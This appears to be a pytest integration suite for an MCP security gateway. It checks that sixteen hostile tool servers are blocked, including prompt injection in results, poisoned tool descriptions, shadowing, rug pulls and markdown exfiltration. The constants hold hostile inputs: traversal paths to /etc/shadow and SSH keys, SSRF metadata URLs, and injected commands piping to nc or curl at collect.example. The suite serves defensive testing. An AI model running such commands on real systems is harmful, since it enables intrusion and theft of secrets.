"""Sixteen hostile servers, each behind a gateway as `init` makes it: what they are after does not happen, and what is honest about them works."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.conformance.children import serving
from tests.integration.real_servers import Step, call
from tests.support.environments import env_python

pytestmark = pytest.mark.integration

HERE = Path(__file__).parent
CLIENT = HERE.parent / "integration" / "sdk_client.py"
PROGRAM = [sys.executable, "-W", "error", "-m", "secure_gateway"]
PATIENCE = 120
HONEST = "mail"
LIST = {"do": "list_all"}
TOKEN = "ghp_" + "R2dKq8WzT5mX1vBn7LcY4hJs9PfA3eUo0GiE"  # made here: nobody's
HIDDEN = ("ansi", "tags", "zero_width", "split", "bidi")
CLIMBING = ("../../etc/passwd", "/etc/shadow", "notes/../../../root/.ssh/id_rsa", "..%2f..%2fetc%2fpasswd")
INWARD = (
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:8500/v1/kv",
    "http://[::1]/",
    "http://2130706433/",
    "file:///etc/passwd",
)
COMMANDS = (
    "example.org; cat /etc/passwd",
    "$(id)",
    "`id`",
    "example.org | nc collect.example 80",
    "example.org && curl collect.example",
)
LETTER = {"to": "rhea", "text": "Come for tea."}
LOOK_ALIKES = (
    "s\u0435nd_email",
    "send\u200b_email",
    "send-email",
    "sendEmail",
    "SEND_EMAIL",
    "send_emaiI",
    "\uff53end_email",
)


def letter(tool: str) -> Step:
    return {"do": "call", "tool": tool, "arguments": LETTER}


RESOURCES = {"good": "handbook://welcome", "bad": "handbook://travel"}

STEPS: Mapping[str, Sequence[Step]] = {
    "poisoned_descriptions": [LIST, call("add", a=1, b=2, sidenote="a key"), call("subtract", a=3, b=1)],
    "instructions_in_results": [call("read_ticket", number=1), call("read_ticket", number=2)],
    "instructions_in_resources": [{"do": "read", "uri": RESOURCES["good"]}, {"do": "read", "uri": RESOURCES["bad"]}],
    "instructions_in_prompts": [
        {"do": "prompt", "prompt": "shorten", "arguments": {"text": "Rhea is cold and has no sea."}},
        {"do": "prompt", "prompt": "translate", "arguments": {"text": "Rhea is cold and has no sea."}},
    ],
    "path_traversal": [call("read_note", path="monday.txt"), *(call("read_note", path=path) for path in CLIMBING)],
    "ssrf": [call("fetch_page", url="https://example.org/moons"), *(call("fetch_page", url=url) for url in INWARD)],
    "command_injection": [call("look_up", host="example.org"), *(call("look_up", host=host) for host in COMMANDS)],
    "credential_theft": [call("deploy", version="2", token=TOKEN), call("settings")],
    "schema_poisoning": [LIST, call("by_default", city="Bern"), call("honest", city="Bern")],
    "rug_pull": [
        LIST,
        call("quote", symbol="A"),
        call("quote", symbol="B"),
        LIST,
        call("quote", symbol="C", account="7"),
    ],
    HONEST: [LIST, letter("send_email")],
    "exhaustion": [
        call("small"),
        call("huge"),
        call("deep"),
        {"do": "count_pages", "most": 60},
        call("small"),
    ],
    "markdown_exfiltration": [call("report", kind="plain"), call("report", kind="full")],
    "hidden_text": [call("read_log", name="dull"), *(call("read_log", name=name) for name in HIDDEN)],
    "sampling_abuse": [call("ask_model"), call("ask_user")],
}
# Only behind the honest one: which of two is the double is told by which of them was there first.
LATER: Mapping[str, Sequence[Step]] = {
    "shadowing": [LIST, letter("send_email"), call("measure", text="four")],
    "look_alikes": [LIST, *(letter(name) for name in LOOK_ALIKES), call("weigh", text="four")],
}


LOOTERS = {
    "poisoned_descriptions",
    "path_traversal",
    "ssrf",
    "command_injection",
    "credential_theft",
    "rug_pull",
    "shadowing",
    "look_alikes",
    "sampling_abuse",
}
"""Those that get hold of something; the others reach the model."""


class Ground:
    """A gateway as `init` makes it, with the servers behind it; `loot` is what a server got hold of.

    Without ``guarded`` everything is off that is to stop them: what passes then shows that they are attacks.
    """

    def __init__(self, folder: Path, *, guarded: bool = True) -> None:
        self.folder = folder
        self.environment = {**os.environ, "HOME": str(folder)}
        made = subprocess.run(
            [*PROGRAM, "init", "--json"], env=self.environment, capture_output=True, text=True, check=True
        )
        self.key = json.loads(made.stdout)["key"]
        path = folder / ".gateway" / "config.json"
        config = json.loads(path.read_text())
        config["serve"] = {"port": 0}
        for name in (*STEPS, *LATER):
            (folder / name).mkdir()
            arguments = [str(HERE / f"{name}.py"), str(self.loot(name))]
            config["servers"][name] = {"command": str(env_python("mcp-servers")), "args": arguments}
            if not guarded:
                config["servers"][name]["tools"] = {"pin": "off", "look_alikes": "off"}
        if not guarded:
            del config["plugins"]["guardrails"]
            config["limits"] = {"max_payload_bytes": 1 << 26, "max_message_bytes": 1 << 27, "max_depth": 500}
        path.write_text(json.dumps(config))
        self._answers: dict[str, list[Any]] = {}

    def loot(self, name: str) -> Path:
        return self.folder / name / "loot"

    def visit(self, address: str, steps: Mapping[str, Sequence[Step]]) -> None:
        """Let the real client take the steps at each server, with a user who answers whatever is asked."""
        doors = {
            name: {"url": f"{address}/servers/{name}/mcp", "headers": {"X-API-Key": self.key}, "steps": taken}
            for name, taken in steps.items()
        }
        done = subprocess.run(
            [str(env_python("mcp-servers")), str(CLIENT)],
            input=json.dumps({"doors": doors, "mode": "legacy", "answers": {"access_token": TOKEN}}),
            capture_output=True,
            text=True,
            check=False,
            timeout=PATIENCE,
        )
        assert done.returncode == 0, done.stderr
        self._answers |= {name: seen["answers"] for name, seen in json.loads(done.stdout).items()}

    def answers(self, name: str) -> list[Any]:
        answers = self._answers[name]
        assert len(answers) == len({**STEPS, **LATER}[name]), answers
        return answers


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ground]:
    ground = Ground(tmp_path_factory.mktemp("attacks"))
    with serving([*PROGRAM, "serve"], r"^Listening at (\S+)", ground.environment) as address:
        ground.visit(address, STEPS)
        ground.visit(address, LATER)
        yield ground


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ground]:
    """The same attacks where nothing guards."""
    bare = Ground(tmp_path_factory.mktemp("bare"), guarded=False)
    with serving([*PROGRAM, "serve"], r"^Listening at (\S+)", bare.environment) as address:
        bare.visit(address, STEPS)
        bare.visit(address, LATER)
        yield bare


def code(answer: Any) -> str:
    """Return the code with which the gateway refused, and fail where it did not."""
    return str(answer["error"]["data"]["code"])


def text(answer: Any) -> str:
    assert "result" in answer, answer
    return str(answer["result"]["content"][0]["text"])


def names(answer: Any) -> list[str]:
    return [tool["name"] for tool in answer["tools"]]


def test_a_tool_with_a_poisoned_description_is_neither_shown_nor_called(ground: Ground) -> None:
    listed, called, honest = ground.answers("poisoned_descriptions")
    assert names(listed) == ["subtract"]
    assert code(called) == "invalid_arguments"
    assert not ground.loot("poisoned_descriptions").exists()
    assert text(honest) == "2"


def test_a_result_with_orders_to_the_model_does_not_arrive(ground: Ground) -> None:
    honest, poisoned = ground.answers("instructions_in_results")
    assert text(honest).startswith("The printer")
    assert code(poisoned) == "denied"


def test_a_resource_with_hidden_orders_does_not_arrive(ground: Ground) -> None:
    honest, poisoned = ground.answers("instructions_in_resources")
    assert honest["contents"][0]["text"].startswith("# Welcome")
    assert code(poisoned) == "denied"


def test_a_prompt_that_carries_orders_does_not_arrive(ground: Ground) -> None:
    honest, poisoned = ground.answers("instructions_in_prompts")
    assert honest["messages"][0]["content"]["text"].startswith("Shorten this text")
    assert code(poisoned) == "denied"


@pytest.mark.parametrize(
    ("name", "honest"), [("path_traversal", "Water"), ("ssrf", "A page"), ("command_injection", "example.org")]
)
def test_an_argument_that_is_an_attack_does_not_reach_the_tool_that_falls_for_it(
    ground: Ground, name: str, honest: str
) -> None:
    first, *attacks = ground.answers(name)
    assert text(first).startswith(honest)
    assert [code(answer) for answer in attacks] == ["denied"] * len(attacks)
    loot = ground.loot(name)
    assert not loot.exists() or loot.read_text() == "https://example.org/moons\n"


def test_a_credential_reaches_neither_a_tool_that_asks_for_it_nor_the_model(ground: Ground) -> None:
    asked, given_away = ground.answers("credential_theft")
    assert code(asked) == "denied"
    assert not ground.loot("credential_theft").exists()
    assert "region=eu" in text(given_away)
    assert TOKEN not in json.dumps(given_away)


def test_a_tool_with_orders_anywhere_in_its_schema_is_neither_shown_nor_called(ground: Ground) -> None:
    listed, called, honest = ground.answers("schema_poisoning")
    assert names(listed) == ["honest"]
    assert code(called) == "invalid_arguments"
    assert text(honest) == "Bern is sunny."


def test_a_tool_whose_definition_changes_after_some_calls_is_neither_shown_nor_called(ground: Ground) -> None:
    before, first, second, after, third = ground.answers("rug_pull")
    assert names(before) == ["quote"]
    assert text(first) == "A: 12.50"
    assert text(second) == "B: 12.50"
    assert names(after) == []
    assert code(third) == "invalid_arguments"
    assert not ground.loot("rug_pull").exists()


def test_a_tool_of_the_name_of_another_servers_is_neither_shown_nor_called(ground: Ground) -> None:
    listed, called, honest = ground.answers("shadowing")
    assert names(listed) == ["measure"]
    assert code(called) == "invalid_arguments"
    assert not ground.loot("shadowing").exists()
    assert text(honest) == "4"
    assert text(ground.answers(HONEST)[1]).endswith("were sent to 1.")


def test_tools_called_almost_like_another_servers_are_neither_shown_nor_called(ground: Ground) -> None:
    listed, *called, honest = ground.answers("look_alikes")
    assert names(listed) == ["weigh"]
    assert {code(answer) for answer in called} == {"invalid_arguments"}
    assert not ground.loot("look_alikes").exists()
    assert text(honest) == "4 g"


def test_results_without_measure_and_lists_without_end_end_at_the_gateway(ground: Ground) -> None:
    small, huge, deep, listed, small_again = ground.answers("exhaustion")
    assert text(small) == text(small_again) == "a moon"
    assert code(huge) == "too_large"
    assert code(deep) in ("too_large", "upstream_error", "invalid_result")
    assert listed["ended"]
    assert listed["tools"] <= 2_000


def test_an_image_that_carries_the_conversation_away_does_not_arrive(ground: Ground) -> None:
    honest, leaking = ground.answers("markdown_exfiltration")
    assert "charts.example/q3.png" in text(honest)
    assert code(leaking) == "denied"


def test_text_that_people_do_not_see_does_not_arrive(ground: Ground) -> None:
    honest, *hidden = ground.answers("hidden_text")
    assert text(honest) == "3 lines, all of them dull."
    assert [code(answer) for answer in hidden] == ["denied"] * len(HIDDEN)


def test_a_server_gets_no_secret_out_of_the_model_or_the_user(ground: Ground) -> None:
    ground.answers("sampling_abuse")
    loot = ground.loot("sampling_abuse")
    assert not loot.exists() or TOKEN not in loot.read_text()
    assert not loot.exists() or "the model was asked" not in loot.read_text()


def test_what_was_pinned_and_what_was_refused_is_recorded_without_a_word_of_the_definitions(ground: Ground) -> None:
    done = subprocess.run(
        [*PROGRAM, "explain", "--recent", "1000", "--json"],
        env=ground.environment,
        capture_output=True,
        text=True,
        check=True,
    )
    records = [each for each in json.loads(done.stdout) if each["name"] == "tool_list"]
    reasons = {each["server"]: each["reason"] for each in records if each["outcome"] == "denied"}
    assert "changed since it was pinned (description, inputSchema" in reasons["rug_pull"]
    assert "account number" not in json.dumps(records)
    guarded = {"poisoned_descriptions", "schema_poisoning"}
    assert reasons.keys() == {"rug_pull", "shadowing", "look_alikes", "exhaustion", *guarded}
    assert all(reasons[name].endswith("what the tool says about itself") for name in guarded)


def test_there_are_sixteen_attackers_and_each_is_tried() -> None:
    servers = {path.stem for path in HERE.glob("*.py")} - {Path(__file__).stem}
    assert servers == {*STEPS, *LATER}
    assert len(servers - {HONEST}) == 16


@pytest.mark.parametrize("name", [name for name in (*STEPS, *LATER) if name not in (HONEST, "exhaustion")])
def test_each_attack_succeeds_where_nothing_guards(bare: Ground, name: str) -> None:
    answers = bare.answers(name)
    assert [answer for answer in answers if "error" in answer] == []
    if name in LOOTERS:
        assert bare.loot(name).exists()


def test_what_exhausts_passes_where_nothing_limits_it(bare: Ground) -> None:
    _, huge, deep, _, _ = bare.answers("exhaustion")
    assert len(text(huge)) > 20_000_000
    assert "data" not in deep.get("error", {})  # if anybody refused it, the client
